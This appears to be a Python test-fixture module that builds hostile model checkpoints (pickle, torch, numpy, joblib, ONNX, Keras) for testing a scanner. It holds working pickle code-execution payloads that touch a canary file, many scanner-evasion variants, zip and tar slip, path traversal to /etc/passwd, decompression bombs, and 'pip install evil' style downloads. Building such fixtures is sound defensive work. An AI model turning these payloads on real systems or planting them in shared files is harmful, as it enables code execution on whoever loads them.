"""Hostile checkpoints of many kinds, made by hand; each would create the canary file if it were loaded."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

P2, P4 = b"\x80\x02", b"\x80\x04"


@dataclass(frozen=True)
class Bad:
    """A hostile file: its name, its bytes, a name that a scanner has to find, and how to set it off."""

    name: str
    data: bytes
    finds: str  # part of the name or of the reason
    fuse: str = ""  # "pickle": pickle.loads runs it; "torch": torch.load(weights_only=False) runs it; "": no canary


def text(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def blob(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def old_name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def system(canary: Path) -> bytes:
    """The stack ends with the result of os.system; no header, no STOP."""
    return call(name("os", "system"), text(f"touch {canary}"))


def zipped(members: dict[str, bytes], compress: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
    return out.getvalue()


def torch_zip(payload: bytes, **more: bytes) -> bytes:
    return zipped({"archive/data.pkl": payload, "archive/version": b"3\n", "archive/byteorder": b"little", **more})


def legacy(payload: bytes) -> bytes:
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return head + pickle.dumps(info, 2) + payload + pickle.dumps([], 2)


def legacy_tar(storages: bytes, tensors: bytes, payload: bytes, extra: str = "") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:", format=tarfile.PAX_FORMAT) as archive:
        for member, data in (("storages", storages), ("tensors", tensors), ("pickle", payload), (extra, b"x")):
            if member:
                info = tarfile.TarInfo(member)
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def npy(payload: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (53 - len(header) % 64 + 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def _flag_encrypted(data: bytes) -> bytes:
    at = data.index(b"PK\x01\x02")
    return data[: at + 8] + b"\x01" + data[at + 9 :]


def _wrong_checksum(data: bytes) -> bytes:
    at = data.index(b"PK\x01\x02")
    return data[: at + 16] + b"\xde\xad\xbe\xef" + data[at + 20 :]


def _other_local_name(data: bytes) -> bytes:
    at = data.index(b"archive/data.pkl")
    return data[:at] + b"archive/data.txt" + data[at + 16 :]


def _doubled(benign: bytes, hostile: bytes) -> bytes:
    data = zipped({"archive/data.pkl": hostile, "archive/dat_.pkl": benign, "archive/version": b"3\n"})
    return data.replace(b"archive/dat_.pkl", b"archive/data.pkl")


def _varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


def _field(number: int, value: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def onnx_escape() -> bytes:
    location = _field(1, b"location") + _field(2, b"../../../etc/passwd")
    tensor = b"\x08\x04\x10\x01" + _field(8, b"w") + _field(13, location) + b"\x70\x01"
    return b"\x08\x08" + _field(2, b"pytorch") + _field(7, _field(5, tensor))


def _pickled(canary: Path) -> list[Bad]:
    """Plain pickles that pickle.loads runs."""
    touch, command = f"touch {canary}", text(f"touch {canary}")
    code = f"open({str(canary)!r}, 'w').close()"
    run = system(canary)
    imported = call(name("builtins", "__import__"), text("os"))
    rot = (
        call(name("_codecs", "encode"), text("bf"), text("rot13")),
        call(name("_codecs", "encode"), text("flfgrz"), text("rot13")),
    )
    namespace = name("argparse", "Namespace") + b")\x81"
    compiled = call(name("marshal", "loads"), blob(marshal.dumps(compile(code, "x", "exec"))))
    function = call(name("types", "FunctionType"), compiled, b"}")
    kinds = {
        "text": (f"cos\nsystem\n(S'{touch}'\ntR.".encode(), "os.system"),
        "posix": (P2 + old_name("posix", "system") + b"X" + struct.pack("<I", len(touch)) + touch.encode() + b"\x85R.", "posix.system"),
        "stack_global": (P4 + run + b".", "os.system"),
        "memo_names": (P4 + text("os") + b"\x94" + text("system") + b"\x940" + b"0h\x00h\x01\x93" + command + b"\x85R.", "os.system"),
        "memo_swapped": (P4 + text("system") + b"q\x05" + text("os") + b"h\x05\x93" + command + b"\x85R.", "os.system"),
        "far_memo": (P4 + text("os") + b"r\xff\xff\x01\x000j\xff\xff\x01\x00" + text("system") + b"\x93" + command + b"\x85R.", "os.system"),
        "dup_pop": (P4 + text("os") + text("safe") + b"0" + text("system") + b"\x932(NNN10" + command + b"\x85R.", "os.system"),
        "rot13_names": (P4 + rot[0] + rot[1] + b"\x93" + command + b"\x85R.", "os.system"),
        "escaped_unicode": (P4 + b"V\\u006f\\u0073\nV\\u0073ystem\n\x93" + command + b"\x85R.", "os.system"),
        "escaped_string": (P4 + b"S'\\x6fs'\nS'syst\\x65m'\n\x93" + command + b"\x85R.", "os.system"),
        "binstring_names": (P4 + b"U\x02osU\x06system\x93" + command + b"\x85R.", "os.system"),
        "inst": (f"(S'{touch}'\nios\nsystem\n.".encode(), "os.system"),
        "obj": (P2 + b"(" + old_name("os", "system") + b"S'" + touch.encode() + b"'\no.", "os.system"),
        "newobj": (P4 + name("subprocess", "Popen") + b"(]" + text("touch") + b"a" + text(str(canary)) + b"at\x81" + b"0" + run + b".", "subprocess.Popen"),
        "newobj_ex": (P4 + name("_io", "FileIO") + text(str(canary)) + text("w") + b"\x86}\x920" + run + b".", "_io.FileIO"),
        "no_header": (run + b".", "os.system"),
        "eval": (P4 + call(name("builtins", "eval"), text(code)) + b".", "builtins.eval"),
        "exec": (P4 + call(name("builtins", "exec"), text(code)) + b".", "builtins.exec"),
        "python2_eval": (f"c__builtin__\neval\n(S{code!r}\ntR.".encode(), "builtins.eval"),
        "open": (P4 + call(name("builtins", "open"), text(str(canary)), text("w")) + b".", "builtins.open"),
        "import_getattr": (P4 + call(call(name("builtins", "getattr"), imported, text("system")), command) + b".", "__import__"),
        "importlib": (P4 + call(call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("system")), command) + b".", "importlib.import_module"),
        "popen": (P4 + call(name("subprocess", "check_output"), b"](" + text("touch") + text(str(canary)) + b"e") + b".", "subprocess.check_output"),
        "runpy": (P4 + call(name("runpy", "_run_code"), text(code), b"}") + b".", "runpy._run_code"),
        "partial_called": (P4 + call(call(name("functools", "partial"), name("os", "system"), command)) + b".", "os.system"),
        "attrgetter": (P4 + call(call(call(name("operator", "attrgetter"), text("system")), imported), command) + b".", "operator.attrgetter"),
        "methodcaller": (P4 + call(call(name("operator", "methodcaller"), text("system"), command), imported) + b".", "operator.methodcaller"),
        "nested_loads": (P4 + call(name("pickle", "loads"), blob(P4 + run + b".")) + b".", "pickle.loads"),
        "nested_twice": (P4 + call(name("_pickle", "loads"), blob(P4 + call(name("_pickle", "loads"), blob(P4 + run + b".")) + b".")) + b".", "os.system"),
        "dotted_walk": (P4 + call(name("torch.serialization", "os.system"), command) + b".", "torch.serialization.os.system"),
        "module_in_module": (P4 + call(call(name("builtins", "getattr"), name("torch.serialization", "os"), text("system")), command) + b".", "torch.serialization.os"),
        "build_setstate": (P4 + namespace + b"}" + text("__setstate__") + name("os", "system") + b"sb" + command + b"b.", "os.system"),
        "in_dict_key": (P4 + b"}" + run + b"K\x01s.", "os.system"),
        "in_set": (P4 + b"\x8f(" + run + b"\x90.", "os.system"),
        "in_persistent_id": (P4 + run + b"0" + b"N.", "os.system"),
        "truncated": (P4 + run, "os.system"),
        "broken_after": (P4 + run + b"\xff\xff\xff", "os.system"),
        "wrong_frame": (P4 + b"\x95\x05\x00\x00\x00\x00\x00\x00\x00" + run + b".", "os.system"),
        "long_padding": (P4 + b"N0" * 50_000 + run + b".", "os.system"),
        "marshal_function": (P4 + function + b")R.", "marshal.loads"),
        "timeit": (P4 + call(name("timeit", "timeit"), text(code), text("pass"), name("time", "time"), b"K\x01") + b".", "timeit.timeit"),
        "cprofile": (P4 + call(name("cProfile", "run"), text(code), text("/dev/null")) + b".", "cProfile.run"),
        "trace_run": (P4 + call(name("code", "InteractiveInterpreter.runsource"), call(name("code", "InteractiveInterpreter")), text(code)) + b".", "InteractiveInterpreter"),
        "logging_file": (P4 + call(name("logging", "FileHandler"), text(str(canary))) + b".", "logging.FileHandler"),
        "map_set": (P4 + call(name("builtins", "list"), call(name("builtins", "map"), name("os", "system"), b"](" + command + b"e")) + b".", "builtins.map"),
        "rebuild_from_type": (P4 + call(name("torch._tensor", "_rebuild_from_type_v2"), name("os", "system"), name("torch", "Tensor"), command + b"\x85", b"N") + b".", "os.system"),
        "numpy_runstring": (P4 + call(name("numpy.testing._private.utils", "runstring"), text(code), b"}") + b".", "runstring"),
        "fx_module": (P4 + call(name("torch.fx.graph_module", "_exec_with_source"), text(code), b"}") + b".", "torch.fx.graph_module"),
        "pty_spawn": (P4 + call(name("pty", "spawn"), b"](" + text("touch") + text(str(canary)) + b"e") + b".", "pty.spawn"),
        "shutil_copy": (P4 + call(name("shutil", "copyfile"), text("/etc/hostname"), text(str(canary))) + b".", "shutil.copyfile"),
        "site_module": (P4 + call(name("pathlib", "Path.touch"), call(name("pathlib", "Path"), text(str(canary)))) + b".", "pathlib.Path.touch"),
        "getattr_path": (P4 + call(call(name("builtins", "getattr"), call(name("pathlib", "Path"), text(str(canary))), text("touch"))) + b".", "pathlib.Path"),
        "np_save": (P4 + call(name("numpy", "savetxt"), text(str(canary)), b"](K\x01e") + b".", "numpy.savetxt"),
        "joblib_dump": (P4 + call(name("joblib.numpy_pickle", "dump"), b"K\x01", text(str(canary))) + b".", "joblib"),
        "torch_save": (P4 + call(name("torch", "save"), b"K\x01", text(str(canary))) + b".", "torch.save"),
        "codeop": (P4 + call(name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), text(code)) + b".", "bdb.Bdb"),
    }  # fmt: skip
    return [Bad(f"{kind}.pkl", data, finds, "pickle") for kind, (data, finds) in kinds.items()]


def _containers(canary: Path) -> list[Bad]:
    """Archives and other wrappers around a hostile pickle."""
    hostile, benign = P4 + system(canary) + b".", pickle.dumps({"w": 1}, 2)
    inner = torch_zip(hostile)
    boom = zipped({"archive/data.pkl": benign, "archive/data/0": b"\0" * (80 << 20)}, zipfile.ZIP_DEFLATED)
    load_bytes = P4 + call(name("torch.storage", "_load_from_bytes"), blob(legacy(hostile))) + b"."
    wrapped = joblib_objects(hostile)
    script = torch_zip(
        benign,
        **{"archive/constants.pkl": pickle.dumps((), 2), "archive/code/__torch__/m.py": b"ops.aten.save(x, 'f')"},
    )
    keras = {
        "class_name": "Functional",
        "config": {"layers": [{"class_name": "Lambda", "config": {"function": base64.b64encode(b"x").decode()}}]},
    }
    return [
        Bad("zip.pt", inner, "os.system", "torch"),
        Bad("legacy.pt", legacy(hostile), "os.system", "torch"),
        Bad("tar_storages.pt", legacy_tar(hostile, pickle.dumps(0), benign), "os.system", "torch"),
        Bad("tar_pickle.pt", legacy_tar(pickle.dumps(0) + pickle.dumps([]), pickle.dumps(0), hostile), "os.system", "torch"),
        Bad("tar_slip.pt", legacy_tar(pickle.dumps(0), pickle.dumps(0), benign, "../../evil"), "leads out"),
        Bad("zip_encrypted_flag.pt", _flag_encrypted(inner), "os.system"),
        Bad("zip_wrong_checksum.pt", _wrong_checksum(inner), "os.system"),
        Bad("zip_other_local_name.pt", _other_local_name(inner), "two readers"),
        Bad("zip_doubled.pt", _doubled(benign, hostile), "os.system", "torch"),
        Bad("pickle_before_zip.pt", hostile + torch_zip(benign), "os.system", "torch"),
        Bad("zip_slip.pt", torch_zip(benign, **{"../../etc/cron.d/x": b"y"}), "leads out"),
        Bad("zip_absolute.pt", torch_zip(benign, **{"/etc/cron.d/x": b"y"}), "leads out"),
        Bad("zip_bomb.pt", boom, "bomb"),
        Bad("zip_odd_name.pt", torch_zip(benign, **{"archive/data/0": hostile}), "os.system"),
        Bad("zip_odd_extension.pt", torch_zip(benign, **{"archive/notes.jpg": hostile}), "os.system"),
        Bad("zip_in_zip.pt", torch_zip(benign, **{"archive/inner.zip": inner}), "os.system"),
        Bad("zip_deflated.pt", zipped({"x/data.pkl": hostile, "x/version": b"3\n"}, zipfile.ZIP_DEFLATED), "os.system"),
        Bad("storage_bytes.pkl", load_bytes, "os.system", "pickle"),
        Bad("two_pickles.pkl", benign + hostile, "os.system"),
        Bad("odd_start_of_the_second.pkl", benign + b"K\x01." + b"K\x010" + hostile[2:], "os.system"),
        Bad("fake_magic.pt", _fake_magic(hostile), "os.system", "torch"),
        Bad("tar_that_is_a_pickle.tar", _tar_pickle(canary), "os.system", "pickle"),
        Bad("safetensors_that_is_a_pickle.safetensors", _safetensors_pickle(canary), "os.system", "pickle"),
        Bad("objects.npy", npy(hostile), "os.system"),
        Bad("objects.npz", zipped({"a.npy": npy(hostile)}), "os.system"),
        Bad("objects.joblib", wrapped, "os.system"),
        Bad("gzip.pkl.gz", gzip.compress(hostile), "os.system"),
        Bad("bz2.pkl.bz2", bz2.compress(hostile), "os.system"),
        Bad("xz.pkl.xz", lzma.compress(hostile), "os.system"),
        Bad("zlib.joblib", zlib.compress(hostile), "os.system"),
        Bad("gzip_bomb.gz", gzip.compress(b"\0" * (80 << 20)), "bomb"),
        Bad("no_extension", hostile, "os.system", "pickle"),
        Bad("picture.png", hostile, "os.system", "pickle"),
        Bad("script_writes.pt", script, "aten.save"),
        Bad("escape.onnx", onnx_escape(), "outside"),
        Bad("model.safetensors.index.json", json.dumps({"weight_map": {"w": "../../../etc/passwd"}}).encode(), "outside"),
        Bad("lambda.keras", zipped({"config.json": json.dumps(keras).encode(), "model.weights.h5": b""}), "Lambda"),
        Bad("lambda.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + json.dumps(keras).encode(), "Lambda"),
    ]  # fmt: skip


def _fake_magic(hostile: bytes) -> bytes:
    """A legacy file whose first pickle does not look like one: torch.load takes it all the same."""
    magic = P2 + b"N0" * 30 + pickle.dumps(0x1950A86A20F9469CFC6C, 2)[2:]
    return (
        magic
        + pickle.dumps(1001, 2)
        + pickle.dumps({"little_endian": True}, 2)
        + b"K\x010"
        + hostile[2:]
        + pickle.dumps([], 2)
    )


def _tar_pickle(canary: Path) -> bytes:
    """A tar whose first member's name is a pickle."""
    data = legacy_tar(pickle.dumps(0), pickle.dumps(0), pickle.dumps({}), "x")
    payload = f"cos\nsystem\n(S'touch {canary}'\ntR.".encode()
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:", format=tarfile.GNU_FORMAT) as archive:
        info = tarfile.TarInfo("n" * 99)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    raw = bytearray(out.getvalue())
    assert len(payload) < 100, "the name of a tar's member is short: take a canary with a shorter path"
    raw[: len(payload)] = payload
    raw[148:156] = b" " * 8
    raw[148:156] = b"%06o\0 " % sum(raw[:512])
    return bytes(raw)


def _safetensors_pickle(canary: Path) -> bytes:
    """A header of safetensors that is a string for the unpickler, and a payload behind it."""
    header = b'{"__metadata__":{}}'
    size = 0x1208C  # the length's first two bytes are SHORT_BINUNICODE and 32
    header += b" " * (34 - 8 - len(header))
    payload = system(canary) + b"."
    return size.to_bytes(8, "little") + header[:26] + payload + b" " * size


def joblib_objects(hostile: bytes) -> bytes:
    """A joblib file whose array of objects is a second pickle inside the first."""
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    dtype = call(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    state = (
        b"}(" + text("subclass") + name("numpy", "ndarray") + text("shape") + b"K\x01\x85" + text("order") + text("C")
    )
    state += text("dtype") + dtype + text("allow_mmap") + b"\x89" + text("numpy_array_alignment_bytes") + b"K\x10u"
    return P4 + wrapper + state + b"b" + hostile + b"."


def _silent(canary: Path) -> list[Bad]:
    """Pickles whose harm leaves no file: changed programs, eaten memory, hidden names, downloads."""
    command = text(f"touch {canary}")
    kinds = {
        "extension_code": (P2 + b"\x82\x2a)R.", "copyreg"),
        "sys_path": (P4 + name("sys", "path") + text("/tmp/evil") + b"a.", "sys.path"),
        "environment": (P4 + name("os", "environ") + text("LD_PRELOAD") + text("/tmp/x.so") + b"s.", "os.environ"),
        "patched_function": (P4 + name("torch._utils", "_rebuild_tensor_v2") + b"N}" + text("__defaults__") + b")s\x86b.", "in place"),
        "memory": (P4 + call(name("builtins", "bytearray"), b"\x8a\x06\x00\x00\x00\x00\x00\x01") + b".", "memory"),
        "memory_range": (P4 + call(name("builtins", "list"), call(name("builtins", "range"), b"J\xff\xff\xff\x7f")) + b".", "memory"),
        "hub": (P4 + call(name("torch.hub", "load"), text("evil/repo"), text("model")) + b".", "torch.hub.load"),
        "pip": (P4 + call(name("pip", "main"), b"](" + text("install") + text("evil") + b"e") + b".", "pip.main"),
        "socket": (P4 + call(name("socket", "create_connection"), text("x") + b"K\x50\x86") + b".", "socket.create_connection"),
        "url": (P4 + call(name("urllib.request", "urlopen"), text("x")) + b".", "urllib.request.urlopen"),
        "ctypes": (P4 + call(name("ctypes", "CDLL"), text("/tmp/x.so")) + b".", "ctypes.CDLL"),
        "cloudpickle": (P4 + call(name("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType")) + b".", "cloudpickle"),
        "dill": (P4 + call(name("dill._dill", "_create_function"), b"N") + b".", "dill"),
        "code_type": (P4 + call(name("types", "CodeType"), b"K\x00") + b".", "types.CodeType"),
        "cpp_extension": (P4 + call(name("torch.utils.cpp_extension", "load_inline"), text("x"), text("y")) + b".", "cpp_extension"),
        "load_library": (P4 + call(name("torch._ops", "_OpNamespace.load_library"), text("x")) + b".", "torch._ops"),
        "pandas_pickle": (P4 + call(name("pandas.io.pickle", "read_pickle"), text("x")) + b".", "pandas.io"),
        "f2py": (P4 + call(name("numpy.f2py.crackfortran", "getlincoef"), text("1"), b"}") + b".", "numpy.f2py"),
        "asyncio": (P4 + call(name("asyncio.unix_events", "_UnixSubprocessTransport._start"), command) + b".", "asyncio"),
        "windows": (P2 + old_name("nt", "system") + b"U\x04calc\x85R.", "nt.system"),
        "commands": (P2 + old_name("commands", "getoutput") + b"U\x02id\x85R.", "getoutput"),
        "computed_global": (P4 + call(name("_codecs", "encode"), text("x"), text("punycode")) + text("system") + b"\x93.", "made by a call"),
        "class_dunder": (P4 + name("builtins", "object") + b")\x81N}" + text("__class__") + name("builtins", "int") + b"s\x86b.", "__class__"),
        "getattr_dunder": (P4 + call(name("builtins", "getattr"), name("torch.nn.modules.linear", "Linear"), text("__init__")) + b".", "__init__"),
        "call_of_call": (P4 + call(call(name("torch.nn.modules.linear", "Linear"), b"K\x01", b"K\x01"), b"K\x01") + b".", "another call"),
    }  # fmt: skip
    return [Bad(f"{kind}.bin", data, finds) for kind, (data, finds) in kinds.items()]


def hostile(canary: Path) -> list[Bad]:
    """All of them."""
    return [*_pickled(canary), *_containers(canary), *_silent(canary)]
